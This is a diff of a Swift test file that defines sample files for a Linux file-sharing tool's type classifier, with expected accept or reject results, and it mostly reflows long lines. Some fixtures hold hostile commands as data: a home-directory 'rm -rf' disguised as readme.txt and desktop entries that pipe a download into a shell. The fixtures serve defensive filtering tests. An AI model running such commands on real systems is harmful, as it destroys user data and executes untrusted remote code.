@@ -102,52 +102,116 @@ let samples: [Sample] = [
   Sample("sound.wav", SampleBytes.wav, .accept("com.microsoft.waveform-audio"), .reject("com.microsoft.waveform-audio", .notAccepted)),
   // Office documents.
   Sample("report.docx", SampleBytes.docx, .accept(docxID), .reject(docxID, .notAccepted)),
-  Sample("table.xlsx", SampleBytes.xlsx, .accept("org.openxmlformats.spreadsheetml.sheet"), .reject("org.openxmlformats.spreadsheetml.sheet", .notAccepted)),
-  Sample("letter.odt", SampleBytes.odt, .accept("org.oasis-open.opendocument.text"), .reject("org.oasis-open.opendocument.text", .notAccepted)),
+  Sample(
+    "table.xlsx", SampleBytes.xlsx, .accept("org.openxmlformats.spreadsheetml.sheet"),
+    .reject("org.openxmlformats.spreadsheetml.sheet", .notAccepted)),
+  Sample(
+    "letter.odt", SampleBytes.odt, .accept("org.oasis-open.opendocument.text"), .reject("org.oasis-open.opendocument.text", .notAccepted)),
   Sample("old.doc", SampleBytes.oleHeader, .accept("com.microsoft.word.doc"), .reject("com.microsoft.word.doc", .notAccepted)),
   Sample("letter.rtf", SampleBytes.rtf, .accept("public.rtf"), .reject("public.rtf", .notAccepted)),
-  Sample("budget.csv", SampleBytes.utf8("name,amount\nrent,900\nfood,300\n"), .accept("public.comma-separated-values-text"), .reject("public.comma-separated-values-text", .notAccepted)),
+  Sample(
+    "budget.csv", SampleBytes.utf8("name,amount\nrent,900\nfood,300\n"), .accept("public.comma-separated-values-text"),
+    .reject("public.comma-separated-values-text", .notAccepted)),
   // A zip named .docx is not a Word document but a harmless ZIP: its content decides. An ELF
   // named .docx is an executable.
   Sample("fake.docx", SampleBytes.plainZip, .accept("public.zip-archive"), .reject("public.zip-archive", .notAccepted)),
-  Sample("evil.docx", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent), .reject("public.unix-executable", .excludedContent)),
+  Sample(
+    "evil.docx", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent),
+    .reject("public.unix-executable", .excludedContent)),
   // Archives.
   Sample("files.zip", SampleBytes.plainZip, .accept("public.zip-archive"), .reject("public.zip-archive", .notAccepted)),
-  Sample("notes.txt.gz", SampleBytes.gzip(SampleBytes.utf8("hello\n")), .accept("org.gnu.gnu-zip-archive"), .reject("org.gnu.gnu-zip-archive", .notAccepted)),
-  Sample("backup.tar", SampleBytes.tar([("hello.txt", SampleBytes.utf8("hello\n"))]), .accept("public.tar-archive"), .reject("public.tar-archive", .notAccepted)),
-  Sample("backup.tar.gz", SampleBytes.gzip(SampleBytes.tar([("a.txt", SampleBytes.utf8("a\n"))])), .accept("org.gnu.gnu-zip-tar-archive"), .reject("org.gnu.gnu-zip-tar-archive", .notAccepted)),
+  Sample(
+    "notes.txt.gz", SampleBytes.gzip(SampleBytes.utf8("hello\n")), .accept("org.gnu.gnu-zip-archive"),
+    .reject("org.gnu.gnu-zip-archive", .notAccepted)),
+  Sample(
+    "backup.tar", SampleBytes.tar([("hello.txt", SampleBytes.utf8("hello\n"))]), .accept("public.tar-archive"),
+    .reject("public.tar-archive", .notAccepted)),
+  Sample(
+    "backup.tar.gz", SampleBytes.gzip(SampleBytes.tar([("a.txt", SampleBytes.utf8("a\n"))])), .accept("org.gnu.gnu-zip-tar-archive"),
+    .reject("org.gnu.gnu-zip-tar-archive", .notAccepted)),
   // Executables, scripts, desktop entries, installers.
-  Sample("true", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent), .reject("public.unix-executable", .excludedContent)),
-  Sample("cat.png", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent), .reject("public.unix-executable", .excludedContent)),
-  Sample("Tool-x86_64.AppImage", try SampleBytes.appImage(), .reject("org.appimage.appimage", .excludedContent), .reject("org.appimage.appimage", .excludedContent)),
-  Sample("tool", try SampleBytes.appImage(), .reject("org.appimage.appimage", .excludedContent), .reject("org.appimage.appimage", .excludedContent)),
-  Sample("setup.exe", SampleBytes.exe, .reject("com.microsoft.windows-executable", .excludedContent), .reject("com.microsoft.windows-executable", .excludedContent)),
-  Sample("install.sh", SampleBytes.utf8("#!/bin/sh\nset -e\necho installing\n"), .reject("public.shell-script", .excludedContent), .accept("public.shell-script")),
-  Sample("install", SampleBytes.utf8("#!/bin/bash\necho installing\n"), .reject("public.shell-script", .excludedContent), .accept("public.shell-script")),
-  Sample("readme.txt", SampleBytes.utf8("#!/bin/sh\nrm -rf \"$HOME\"\n"), .reject("public.shell-script", .excludedContent), .accept("public.shell-script")),
-  Sample("tool.py", SampleBytes.utf8("import os\nprint(os.getcwd())\n"), .reject("public.python-script", .excludedName), .accept("public.python-script")),
-  Sample("run", SampleBytes.utf8("#!/usr/bin/env python3\nprint('hi')\n"), .reject("public.python-script", .excludedContent), .accept("public.python-script")),
-  Sample("app.desktop", SampleBytes.utf8("[Desktop Entry]\nType=Application\nName=App\nExec=sh -c 'curl x | sh'\n"), .reject("org.freedesktop.desktop-entry", .excludedContent), .accept("org.freedesktop.desktop-entry")),
-  Sample("photos.txt", SampleBytes.utf8("#!/usr/bin/env xdg-open\n\n[Desktop Entry]\nType=Application\nExec=evil\n"), .reject("org.freedesktop.desktop-entry", .excludedContent), .accept("org.freedesktop.desktop-entry")),
-  Sample("hello.deb", SampleBytes.deb, .reject("org.debian.deb-archive", .excludedContent), .reject("org.debian.deb-archive", .notAccepted)),
-  Sample("archive.zip", SampleBytes.deb, .reject("org.debian.deb-archive", .excludedContent), .reject("org.debian.deb-archive", .typeMismatch)),
-  Sample("hello.rpm", SampleBytes.rpm, .reject("com.redhat.rpm-archive", .excludedContent), .reject("com.redhat.rpm-archive", .notAccepted)),
-  Sample("app.apk", SampleBytes.apk, .reject("com.android.package-archive", .excludedContent), .reject("com.android.package-archive", .excludedContent)),
+  Sample(
+    "true", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent), .reject("public.unix-executable", .excludedContent)),
+  Sample(
+    "cat.png", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent),
+    .reject("public.unix-executable", .excludedContent)),
+  Sample(
+    "Tool-x86_64.AppImage", try SampleBytes.appImage(), .reject("org.appimage.appimage", .excludedContent),
+    .reject("org.appimage.appimage", .excludedContent)),
+  Sample(
+    "tool", try SampleBytes.appImage(), .reject("org.appimage.appimage", .excludedContent),
+    .reject("org.appimage.appimage", .excludedContent)),
+  Sample(
+    "setup.exe", SampleBytes.exe, .reject("com.microsoft.windows-executable", .excludedContent),
+    .reject("com.microsoft.windows-executable", .excludedContent)),
+  Sample(
+    "install.sh", SampleBytes.utf8("#!/bin/sh\nset -e\necho installing\n"), .reject("public.shell-script", .excludedContent),
+    .accept("public.shell-script")),
+  Sample(
+    "install", SampleBytes.utf8("#!/bin/bash\necho installing\n"), .reject("public.shell-script", .excludedContent),
+    .accept("public.shell-script")),
+  Sample(
+    "readme.txt", SampleBytes.utf8("#!/bin/sh\nrm -rf \"$HOME\"\n"), .reject("public.shell-script", .excludedContent),
+    .accept("public.shell-script")),
+  Sample(
+    "tool.py", SampleBytes.utf8("import os\nprint(os.getcwd())\n"), .reject("public.python-script", .excludedName),
+    .accept("public.python-script")),
+  Sample(
+    "run", SampleBytes.utf8("#!/usr/bin/env python3\nprint('hi')\n"), .reject("public.python-script", .excludedContent),
+    .accept("public.python-script")),
+  Sample(
+    "app.desktop", SampleBytes.utf8("[Desktop Entry]\nType=Application\nName=App\nExec=sh -c 'curl x | sh'\n"),
+    .reject("org.freedesktop.desktop-entry", .excludedContent), .accept("org.freedesktop.desktop-entry")),
+  Sample(
+    "photos.txt", SampleBytes.utf8("#!/usr/bin/env xdg-open\n\n[Desktop Entry]\nType=Application\nExec=evil\n"),
+    .reject("org.freedesktop.desktop-entry", .excludedContent), .accept("org.freedesktop.desktop-entry")),
+  Sample(
+    "hello.deb", SampleBytes.deb, .reject("org.debian.deb-archive", .excludedContent), .reject("org.debian.deb-archive", .notAccepted)),
+  Sample(
+    "archive.zip", SampleBytes.deb, .reject("org.debian.deb-archive", .excludedContent), .reject("org.debian.deb-archive", .typeMismatch)),
+  Sample(
+    "hello.rpm", SampleBytes.rpm, .reject("com.redhat.rpm-archive", .excludedContent), .reject("com.redhat.rpm-archive", .notAccepted)),
+  Sample(
+    "app.apk", SampleBytes.apk, .reject("com.android.package-archive", .excludedContent),
+    .reject("com.android.package-archive", .excludedContent)),
   Sample("lib.jar", SampleBytes.jar, .reject("com.sun.java-archive", .excludedContent), .reject("com.sun.java-archive", .excludedContent)),
-  Sample("setup.msi", SampleBytes.oleHeader, .reject("com.microsoft.windows-installer", .excludedName), .reject("com.microsoft.windows-installer", .excludedName)),
+  Sample(
+    "setup.msi", SampleBytes.oleHeader, .reject("com.microsoft.windows-installer", .excludedName),
+    .reject("com.microsoft.windows-installer", .excludedName)),
   Sample("app.snap", SampleBytes.squashfs, .reject("io.snapcraft.snap", .excludedName), .reject("io.snapcraft.snap", .notAccepted)),
-  Sample("app.flatpakref", SampleBytes.utf8("[Flatpak Ref]\nName=org.example.App\nUrl=https://example.org/repo\n"), .reject("org.flatpak.flatpakref", .excludedContent), .accept("org.flatpak.flatpakref")),
-  Sample("driver.run", SampleBytes.utf8("#!/bin/sh\n# This script was generated using Makeself 2.4.0\nexit 0\n"), .reject("public.shell-script", .excludedContent), .accept("public.run-installer")),
+  Sample(
+    "app.flatpakref", SampleBytes.utf8("[Flatpak Ref]\nName=org.example.App\nUrl=https://example.org/repo\n"),
+    .reject("org.flatpak.flatpakref", .excludedContent), .accept("org.flatpak.flatpakref")),
+  Sample(
+    "driver.run", SampleBytes.utf8("#!/bin/sh\n# This script was generated using Makeself 2.4.0\nexit 0\n"),
+    .reject("public.shell-script", .excludedContent), .accept("public.run-installer")),
   // Text.
-  Sample("notes.txt", SampleBytes.utf8("Buy milk.\nCall Anna about the trip to Lisbon.\n"), .accept("public.plain-text"), .accept("public.plain-text")),
-  Sample("accents.txt", SampleBytes.utf8("Crème brûlée, smørrebrød, Straße, 東京.\n"), .accept("public.plain-text"), .accept("public.plain-text")),
-  Sample("wide.txt", SampleBytes.utf16LE("Hello in UTF-16, with a byte-order mark.\n"), .accept("public.plain-text"), .accept("public.plain-text")),
-  Sample("page.html", SampleBytes.utf8("<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>Hi</p></body></html>\n"), .accept("public.html"), .reject("public.html", .notAccepted)),
-  Sample("data.json", SampleBytes.utf8("{\"name\": \"share\", \"tags\": [1, 2, 3]}\n"), .accept("public.json"), .reject("public.json", .notAccepted)),
-  Sample("feed.xml", SampleBytes.utf8("<?xml version=\"1.0\"?>\n<feed><title>t</title></feed>\n"), .accept("public.xml"), .reject("public.xml", .notAccepted)),
-  Sample("README.md", SampleBytes.utf8("# share\n\nAirDrop for Linux, from the terminal.\n"), .accept("net.daringfireball.markdown"), .accept("net.daringfireball.markdown")),
-  Sample("main.c", SampleBytes.utf8("#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n"), .accept("public.c-source"), .accept("public.c-source")),
-  Sample("card.vcf", SampleBytes.utf8("BEGIN:VCARD\nVERSION:3.0\nFN:Anna\nEND:VCARD\n"), .accept("public.vcard"), .reject("public.vcard", .notAccepted)),
+  Sample(
+    "notes.txt", SampleBytes.utf8("Buy milk.\nCall Anna about the trip to Lisbon.\n"), .accept("public.plain-text"),
+    .accept("public.plain-text")),
+  Sample(
+    "accents.txt", SampleBytes.utf8("Crème brûlée, smørrebrød, Straße, 東京.\n"), .accept("public.plain-text"), .accept("public.plain-text")),
+  Sample(
+    "wide.txt", SampleBytes.utf16LE("Hello in UTF-16, with a byte-order mark.\n"), .accept("public.plain-text"),
+    .accept("public.plain-text")),
+  Sample(
+    "page.html", SampleBytes.utf8("<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>Hi</p></body></html>\n"),
+    .accept("public.html"), .reject("public.html", .notAccepted)),
+  Sample(
+    "data.json", SampleBytes.utf8("{\"name\": \"share\", \"tags\": [1, 2, 3]}\n"), .accept("public.json"),
+    .reject("public.json", .notAccepted)),
+  Sample(
+    "feed.xml", SampleBytes.utf8("<?xml version=\"1.0\"?>\n<feed><title>t</title></feed>\n"), .accept("public.xml"),
+    .reject("public.xml", .notAccepted)),
+  Sample(
+    "README.md", SampleBytes.utf8("# share\n\nAirDrop for Linux, from the terminal.\n"), .accept("net.daringfireball.markdown"),
+    .accept("net.daringfireball.markdown")),
+  Sample(
+    "main.c", SampleBytes.utf8("#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n"), .accept("public.c-source"),
+    .accept("public.c-source")),
+  Sample(
+    "card.vcf", SampleBytes.utf8("BEGIN:VCARD\nVERSION:3.0\nFN:Anna\nEND:VCARD\n"), .accept("public.vcard"),
+    .reject("public.vcard", .notAccepted)),
   Sample("todo", SampleBytes.utf8("Water the plants.\nCall the landlord.\n"), .accept("public.plain-text"), .accept("public.plain-text")),
   Sample("empty.txt", [], .accept("public.plain-text"), .accept("public.plain-text")),
   Sample("empty", [], .accept("public.plain-text"), .accept("public.plain-text")),
@@ -159,7 +223,9 @@ let samples: [Sample] = [
   Sample("paper.png", SampleBytes.pdf, .accept("com.adobe.pdf"), .reject("public.png", .excludedName)),
   Sample("really-a-png.jpg", SampleBytes.png, .accept("public.png"), .reject("public.png", .excludedContent)),
   Sample("movie.mp3", SampleBytes.mp4, .accept("public.mpeg-4"), .reject("public.mpeg-4", .notAccepted)),
-  Sample("plain.tar.gz", SampleBytes.tar([("a.txt", SampleBytes.utf8("a\n"))]), .accept("public.tar-archive"), .reject("public.tar-archive", .notAccepted)),
+  Sample(
+    "plain.tar.gz", SampleBytes.tar([("a.txt", SampleBytes.utf8("a\n"))]), .accept("public.tar-archive"),
+    .reject("public.tar-archive", .notAccepted)),
   // The custom type.
   Sample("meeting.note", SampleBytes.utf8("Meeting notes: ship it.\n"), .accept("public.plain-text"), .accept(note)),
   Sample("sneaky.note", SampleBytes.png, .accept("public.png"), .reject("public.png", .excludedContent)),
